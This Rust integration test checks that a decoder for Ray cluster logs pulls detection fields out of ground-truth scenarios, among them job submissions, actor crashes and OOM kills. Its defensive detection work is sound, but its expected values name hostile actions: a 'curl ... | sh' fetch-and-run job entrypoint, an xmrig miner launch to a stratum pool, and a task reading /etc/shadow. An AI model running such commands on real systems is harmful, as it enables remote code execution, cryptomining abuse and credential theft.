//! Every server-side signal that `shared/corpus/ray/dev/ground_truth.jsonl`
//! names must come out of the decoder with the fields a detection rule
//! needs. The expectations are written from the ground truth and the spec,
//! one block per scenario.

use sightline_decode::{Assembler, DecodeOptions, Event, Outcome, Source, StreamInfo};
use sightline_decode_ray::RaySource;
use std::path::{Path, PathBuf};
use std::sync::Arc;

mod common;

fn logs() -> Option<PathBuf> {
    common::shared_corpus("ray/dev/logs")
}

fn walk(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(rd) = std::fs::read_dir(dir) else {
        return;
    };
    for p in rd.filter_map(|e| e.ok().map(|e| e.path())) {
        if p.is_dir() {
            walk(&p, out);
        } else {
            out.push(p);
        }
    }
}

fn decode_all(dir: &Path) -> Vec<Event> {
    let mut files = Vec::new();
    walk(dir, &mut files);
    files.sort();
    let mut events = Vec::new();
    for f in files {
        let text = String::from_utf8_lossy(&std::fs::read(&f).expect("readable")).into_owned();
        let stream = StreamInfo::for_path(&f);
        let opts = Arc::new(DecodeOptions::default());
        let mut asm = Assembler::new(RaySource.open(&stream, &opts), stream, opts);
        let mut offset = 0u64;
        for line in text.split_inclusive('\n') {
            let l = line.strip_suffix('\n').unwrap_or(line);
            events.extend(asm.push(l.strip_suffix('\r').unwrap_or(l), offset));
            offset += line.len() as u64;
        }
        events.extend(asm.finish());
    }
    events
}

fn s<'a>(e: &'a Event, f: &str) -> Option<&'a str> {
    e.get_str(f)
}

fn file(e: &Event) -> &str {
    s(e, "log.file.path")
        .and_then(|p| p.rsplit('/').next())
        .unwrap_or("")
}

/// The events that satisfy `pred`; fails with `what` if there are none.
fn find<'a>(events: &'a [Event], what: &str, pred: impl Fn(&Event) -> bool) -> Vec<&'a Event> {
    let found: Vec<&Event> = events.iter().filter(|e| pred(e)).collect();
    assert!(!found.is_empty(), "no event for: {what}");
    found
}

fn action(e: &Event) -> &str {
    e.action.as_deref().unwrap_or("")
}

fn access<'a>(events: &'a [Event], method: &str, path: &str, status: i64) -> Vec<&'a Event> {
    find(events, &format!("{method} {path} {status}"), |e| {
        e.dataset == "ray.dashboard"
            && s(e, "http.request.method") == Some(method)
            && s(e, "url.path") == Some(path)
            && e.get_i64("http.response.status_code") == Some(status)
    })
}

#[test]
fn ground_truth_signals_carry_their_fields() {
    let Some(dir) = logs() else {
        return;
    };
    let ev = decode_all(&dir);

    // cluster_start
    let n = find(&ev, "GCS node registration", |e| {
        e.dataset == "ray.gcs" && action(e) == "node-registered"
    });
    assert_eq!(
        s(n[0], "ray.node.id"),
        Some("a18a45fcdc2fe56546c99ed6dfb8d949048d3d0ecf715a9e0027c590")
    );
    assert_eq!(s(n[0], "ray.node.address"), Some("127.0.0.1"));
    find(&ev, "export NODE ALIVE", |e| {
        s(e, "ray.event.source_type") == Some("EXPORT_NODE")
            && s(e, "ray.node.state") == Some("ALIVE")
            && action(e) == "node-registered"
    });
    find(&ev, "memory monitor configuration", |e| {
        file(e) == "raylet.out"
            && action(e) == "configuration"
            && e.get_i64("ray.memory.threshold_bytes") == Some(3336498176)
    });

    // api_auth_success
    let ok = access(&ev, "GET", "/api/version", 200);
    assert!(
        ok.iter()
            .all(|e| e.outcome == Outcome::Success && s(e, "source.ip") == Some("127.0.0.1"))
    );
    assert!(
        ok.iter()
            .any(|e| s(e, "user_agent.original") == Some("curl/7.88.1"))
    );

    // normal_driver_start
    let j = find(&ev, "GCS job registration", |e| {
        action(e) == "job-registered"
            && e.dataset == "ray.gcs"
            && s(e, "ray.job.id") == Some("01000000")
    });
    assert!(j[0].get_i64("ray.driver.pid").is_some());
    find(&ev, "export DRIVER_JOB entrypoint", |e| {
        s(e, "process.command_line") == Some("python normal_driver.py")
            && s(e, "ray.job.id") == Some("01000000")
            && s(e, "source.ip") == Some("127.0.0.1")
    });

    // normal_tasks
    find(&ev, "task marker", |e| {
        action(e) == "task-started" && s(e, "ray.task.name") == Some("square")
    });
    find(&ev, "task output inherits the marker", |e| {
        e.message == "square task x=0"
            && s(e, "ray.task.name") == Some("square")
            && s(e, "ray.job.id") == Some("01000000")
            && s(e, "ray.worker.id").is_some()
    });
    find(&ev, "raylet worker start", |e| {
        action(e) == "worker-started"
            && e.get_i64("ray.worker.pid").is_some()
            && s(e, "ray.worker.id").is_some()
    });

    // normal_actor
    find(&ev, "GCS actor creation", |e| {
        e.dataset == "ray.gcs" && action(e) == "actor-created" && s(e, "ray.actor.id").is_some()
    });
    find(&ev, "export ACTOR Counter ALIVE", |e| {
        s(e, "ray.actor.class_name") == Some("Counter") && s(e, "ray.actor.state") == Some("ALIVE")
    });
    find(&ev, "actor output", |e| {
        e.message == "Counter now 1" && s(e, "ray.actor.name") == Some("Counter")
    });

    // task_exception
    let t = find(&ev, "export TASK user exception", |e| {
        action(e) == "task-failed" && s(e, "ray.task.name") == Some("bad_task")
    });
    assert_eq!(s(t[0], "error.type"), Some("ValueError"));
    assert_eq!(
        s(t[0], "ray.task.error_type"),
        Some("TASK_EXECUTION_EXCEPTION")
    );
    assert!(
        s(t[0], "error.message")
            .unwrap_or("")
            .contains("intentional failure in bad_task n=7")
    );

    // actor_worker_crash
    let crash = "08598ff1b25b3438ad9272c47a3b046e846be61655a49683f52aab84";
    for (what, ds) in [
        ("raylet disconnect", "ray.raylet"),
        ("GCS actor failure", "ray.gcs"),
        ("RAYLET event", "ray.event"),
    ] {
        let w = find(&ev, what, |e| {
            e.dataset == ds && action(e) == "worker-failed" && s(e, "ray.worker.id") == Some(crash)
        });
        assert!(w.iter().all(|e| e.outcome == Outcome::Failure), "{what}");
    }
    find(&ev, "RAYLET worker failure exit type", |e| {
        s(e, "ray.event.label") == Some("RAY_WORKER_FAILURE")
            && s(e, "ray.worker.exit_type") == Some("SYSTEM_ERROR")
    });
    find(&ev, "export ACTOR Crashy DEAD", |e| {
        s(e, "ray.actor.class_name") == Some("Crashy")
            && s(e, "ray.actor.state") == Some("DEAD")
            && s(e, "ray.actor.death_reason") == Some("WORKER_DIED")
    });
    find(&ev, "Crashy output", |e| {
        e.message.contains("Crashy actor about to call os._exit(1)")
            && s(e, "ray.actor.name") == Some("Crashy")
    });

    // ray_job_submit_benign
    let post = access(&ev, "POST", "/api/jobs/", 200);
    assert!(
        post.iter()
            .all(|e| action(e) == "job-submitted" && e.outcome == Outcome::Success)
    );
    assert!(post.iter().any(|e| s(e, "user_agent.original").is_some_and(|u| u.starts_with("python-requests/"))));
    let put = access(
        &ev,
        "PUT",
        "/api/packages/gcs/_ray_pkg_3109e4caa0c8baca.zip",
        200,
    );
    assert_eq!(action(put[0]), "package-uploaded");
    find(&ev, "JobHead upload", |e| {
        action(e) == "package-uploaded"
            && s(e, "url.original") == Some("gcs://_ray_pkg_3109e4caa0c8baca.zip")
    });
    find(&ev, "benign entrypoint", |e| {
        action(e) == "process-started"
            && s(e, "process.command_line") == Some("python benign_job.py")
            && s(e, "ray.job.submission_id") == Some("benign-dev-1")
    });
    find(&ev, "benign exit", |e| {
        file(e) == "supervisor-benign-dev-1.log"
            && action(e) == "job-finished"
            && e.get_i64("process.exit_code") == Some(0)
            && e.outcome == Outcome::Success
    });
    find(&ev, "JOBS started", |e| {
        action(e) == "job-started"
            && e.dataset == "ray.event"
            && s(e, "ray.job.submission_id") == Some("benign-dev-1")
    });
    find(&ev, "JOBS completed", |e| {
        action(e) == "job-finished"
            && s(e, "ray.job.status") == Some("SUCCEEDED")
            && s(e, "ray.event.source_type") == Some("JOBS")
    });
    find(&ev, "export SUBMISSION_JOB", |e| {
        s(e, "ray.event.source_type") == Some("EXPORT_SUBMISSION_JOB")
            && s(e, "process.command_line") == Some("python benign_job.py")
    });

    // structured_logging_json
    let sj = find(&ev, "structured exception", |e| {
        e.message == "structured exception in task"
    });
    assert_eq!(s(sj[0], "error.type"), Some("ZeroDivisionError"));
    assert_eq!(s(sj[0], "ray.task.name"), Some("f"));
    assert_eq!(s(sj[0], "ray.job.id"), Some("04000000"));
    assert_eq!(sj[0].level.as_deref(), Some("error"));

    // api_no_token / api_wrong_token
    for status in [401, 403] {
        let denied: Vec<&Event> = ev
            .iter()
            .filter(|e| {
                e.dataset == "ray.dashboard"
                    && e.get_i64("http.response.status_code") == Some(status)
            })
            .collect();
        assert_eq!(denied.len(), 8, "{status}");
        for e in denied {
            assert_eq!(action(e), "authentication-failed");
            assert_eq!(e.outcome, Outcome::Failure);
            assert!(e.category.iter().any(|c| c == "authentication"));
            assert_eq!(s(e, "source.ip"), Some("127.0.0.1"));
            assert!(s(e, "url.path").is_some() && s(e, "http.request.method").is_some());
            assert_eq!(s(e, "user_agent.original"), Some("curl/7.88.1"));
        }
    }
    assert_eq!(access(&ev, "POST", "/api/jobs/", 401).len(), 4);

    // rest_job_curl_pipe_sh
    find(&ev, "curl|sh entrypoint", |e| {
        action(e) == "process-started"
            && s(e, "process.command_line")
                == Some("bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'")
            && s(e, "ray.job.submission_id") == Some("raysubmit_curlpipe_dev")
    });
    find(&ev, "curl|sh export", |e| {
        action(e) == "job-submitted"
            && e.dataset == "ray.event"
            && s(e, "process.command_line")
                == Some("bash -c 'curl -s http://127.0.0.1:9/x.sh | sh'")
    });
    find(&ev, "curl|sh agent start", |e| {
        action(e) == "job-started"
            && e.dataset == "ray.agent"
            && s(e, "ray.job.submission_id") == Some("raysubmit_curlpipe_dev")
    });

    // rest_job_xmrig
    let xm = "raysubmit_7RZqETtwsLv2wH2A";
    find(&ev, "xmrig entrypoint", |e| {
        action(e) == "process-started"
            && s(e, "process.command_line")
                .is_some_and(|c| c.starts_with("./xmrig -o stratum+tcp://"))
            && s(e, "ray.job.submission_id") == Some(xm)
    });
    find(&ev, "xmrig not found", |e| {
        s(e, "labels.missing_command") == Some("./xmrig")
            && s(e, "ray.job.submission_id") == Some(xm)
    });
    find(&ev, "xmrig exit 127", |e| {
        action(e) == "job-finished"
            && e.get_i64("process.exit_code") == Some(127)
            && e.outcome == Outcome::Failure
            && s(e, "ray.job.submission_id") == Some(xm)
    });
    find(&ev, "xmrig JOBS FAILED", |e| {
        s(e, "ray.event.source_type") == Some("JOBS")
            && s(e, "ray.job.status") == Some("FAILED")
            && e.outcome == Outcome::Failure
    });
    find(&ev, "xmrig export FAILED", |e| {
        s(e, "ray.event.source_type") == Some("EXPORT_SUBMISSION_JOB")
            && s(e, "ray.job.status") == Some("FAILED")
            && s(e, "ray.job.metadata") == Some(r#"{"owner":"batch"}"#)
            && e.get_i64("process.exit_code") == Some(127)
    });

    // rapid_job_submissions
    let burst: Vec<&Event> = access(&ev, "POST", "/api/jobs/", 200)
        .into_iter()
        .filter(|e| e.timestamp.to_string().starts_with("2026-11-22T12:38:19"))
        .collect();
    assert_eq!(burst.len(), 6);
    let drivers = find(&ev, "burst entrypoints", |e| {
        action(e) == "process-started"
            && s(e, "ray.job.submission_id").is_some_and(|s| s.starts_with("burst_dev_"))
    });
    assert_eq!(drivers.len(), 6);

    // sensitive_file_read_task
    let rd = find(&ev, "sensitive read output", |e| {
        e.message == "[sensitive-read] read /etc/shadow: 675 bytes"
    });
    assert_eq!(s(rd[0], "ray.task.name"), Some("read_sensitive"));
    assert_eq!(s(rd[0], "ray.job.id"), Some("05000000"));
    assert_eq!(
        s(rd[0], "ray.worker.id"),
        Some("cd2e6bf90017ab13451acb43bb8dbb6773fd2910fc85f2b4580a5b90")
    );
    assert_eq!(rd[0].get_i64("process.pid"), Some(15359));

    // memory_hog_actor
    find(&ev, "memory threshold", |e| {
        action(e) == "memory-threshold-exceeded"
            && e.get_i64("ray.memory.used_bytes") == Some(3404374016)
    });
    let oom = find(&ev, "raylet OOM kill", |e| {
        e.dataset == "ray.raylet"
            && action(e) == "oom-kill"
            && s(e, "ray.task.name") == Some("MemHog.__init__")
    });
    assert!(oom[0].message.contains("Top 10 memory users"));
    find(&ev, "RAYLET OOM event", |e| {
        s(e, "ray.event.label") == Some("Out of Memory") && action(e) == "oom-kill"
    });
    find(&ev, "export ACTOR MemHog OOM", |e| {
        s(e, "ray.actor.class_name") == Some("MemHog") && action(e) == "oom-kill"
    });
    find(&ev, "export TASK OOM", |e| {
        s(e, "ray.task.error_type") == Some("OUT_OF_MEMORY")
    });
    find(&ev, "memhog output", |e| {
        e.message == "[memhog] allocated 100 MB" && s(e, "ray.actor.name") == Some("MemHog")
    });

    // api_list_jobs
    let list = access(&ev, "GET", "/api/jobs/", 200);
    assert!(
        list.iter()
            .all(|e| s(e, "ray.api.operation") == Some("job-list"))
    );

    // cluster_stop
    find(&ev, "export NODE DEAD", |e| {
        action(e) == "node-removed"
            && s(e, "ray.node.death_reason") == Some("EXPECTED_TERMINATION")
            && e.dataset == "ray.event"
    });
    find(&ev, "GCS node removal", |e| {
        action(e) == "node-removed" && e.dataset == "ray.gcs"
    });
}
